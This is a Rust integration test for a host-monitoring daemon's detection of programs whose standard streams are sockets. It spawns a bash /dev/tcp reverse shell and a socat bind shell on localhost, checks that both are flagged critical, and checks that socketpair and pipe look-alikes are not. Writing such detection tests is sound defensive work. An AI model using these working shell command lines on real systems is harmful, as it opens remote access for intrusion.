//! A program started with a socket as its standard streams (`exec` records, `socket-stdio`):
//! a reverse shell from bash's /dev/tcp and a bind shell from socat, both real; a shell on
//! socat's default socketpair and one on pipes are their look-alikes and stay unreported.
use std::{
    io::{BufRead, BufReader, Write},
    net::{TcpListener, TcpStream},
    process::{Command, Stdio},
};

use serde_json::Value;

use crate::{
    detections::{Running, free_port},
    harness::Daemon,
};

fn strs(v: &Value) -> Vec<&str> {
    v.as_array()
        .map(|a| a.iter().filter_map(Value::as_str).collect())
        .unwrap_or_default()
}

/// The one finding of an exec record: (severity, technique, reason).
fn finding(v: &Value) -> (&str, &str, &str) {
    let found = v["detections"].as_array().expect("a detection");
    assert_eq!(found.len(), 1, "{v}");
    assert_eq!(found[0]["name"], "socket-stdio", "{v}");
    let s = |k: &str| found[0][k].as_str().unwrap();
    (s("severity"), s("technique"), s("reason"))
}

/// Waits for socat's listen on `port`, connects, and has the shell behind it answer.
fn shell_behind(d: &mut Daemon, socat: &Running, port: u16) -> TcpStream {
    let pid = socat.0.id();
    d.expect("socat's listen", |v| {
        v["event"] == "listen" && v["pid"] == pid && v["port"] == port
    });
    let mut c = TcpStream::connect(("127.0.0.1", port)).unwrap();
    c.write_all(b"echo ready\n").unwrap();
    let mut line = String::new();
    BufReader::new(c.try_clone().unwrap())
        .read_line(&mut line)
        .unwrap();
    assert_eq!(line, "ready\n");
    c
}

#[test]
fn reverse_and_bind_shells_are_flagged_at_exec_and_their_look_alikes_are_not() {
    let mut d = Daemon::start(&[]);

    // Look-alikes first, so their execs are in the ring before the shells that must be seen:
    // sh on a socketpair (socat's EXEC without nofork), and sh on pipes.
    let port = free_port();
    let listen = format!("TCP-LISTEN:{port},bind=127.0.0.1,reuseaddr");
    let paired = Running::spawn("socat", &[&listen, "EXEC:/bin/sh"]);
    let paired_conn = shell_behind(&mut d, &paired, port);
    let piped = Command::new("sh")
        .args(["-c", "true"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let piped_pid = piped.id();
    assert!(piped.wait_with_output().unwrap().status.success());

    // A reverse shell: bash connects back to this listener with its streams on the socket.
    let back = TcpListener::bind("127.0.0.1:0").unwrap();
    let back_port = back.local_addr().unwrap().port();
    let outer = Running::spawn(
        "bash",
        &[
            "-c",
            &format!("bash --norc -i >& /dev/tcp/127.0.0.1/{back_port} 0>&1"),
        ],
    );
    let (mut conn, _) = back.accept().unwrap();
    let v = d.expect("the reverse shell's exec", |v| {
        v["event"] == "exec" && v["remote_port"] == back_port
    });
    conn.write_all(b"exit\n").unwrap();
    assert_eq!(v["ppid"], outer.0.id(), "{v}");
    assert_eq!(strs(&v["args"]), ["bash", "--norc", "-i"], "{v}");
    assert_eq!(strs(&v["stdio"]), ["stdin", "stdout", "stderr"], "{v}");
    assert_eq!(
        (&v["protocol"], &v["remote_address"]),
        (&"tcp".into(), &"127.0.0.1".into())
    );
    assert!(v.get("session").is_none(), "it opens its session: {v}");
    let (severity, technique, reason) = finding(&v);
    assert_eq!((severity, technique), ("critical", "T1059.004"), "{v}");
    assert!(
        reason.contains(&format!("connected to 127.0.0.1:{back_port}")),
        "{v}"
    );

    // A bind shell: socat execs sh in its own place with the accepted socket as stdin and
    // stdout (stderr stays socat's).
    let port = free_port();
    let listen = format!("TCP-LISTEN:{port},bind=127.0.0.1,reuseaddr");
    let bound = Running::spawn("socat", &[&listen, "EXEC:/bin/sh,nofork"]);
    let bound_conn = shell_behind(&mut d, &bound, port);
    let client_port = bound_conn.local_addr().unwrap().port();
    let pid = bound.0.id();
    let v = d.expect("the bind shell's exec", |v| {
        v["event"] == "exec" && v["pid"] == pid
    });
    assert_eq!(strs(&v["stdio"]), ["stdin", "stdout"], "{v}");
    assert_eq!(
        (&v["port"], &v["remote_port"]),
        (&port.into(), &client_port.into()),
        "{v}"
    );
    assert_eq!(v["exe"], "/usr/bin/dash", "{v}");
    assert_eq!(finding(&v).0, "critical", "{v}");

    // The look-alikes' execs came before these in the ring: none was reported.
    let paired_pid = paired.0.id();
    let quiet: Vec<&Value> = d
        .seen
        .iter()
        .filter(|v| v["event"] == "exec")
        .filter(|v| v["ppid"] == paired_pid || v["pid"] == piped_pid)
        .collect();
    assert!(quiet.is_empty(), "look-alikes reported: {quiet:?}");
    drop(paired_conn);
}
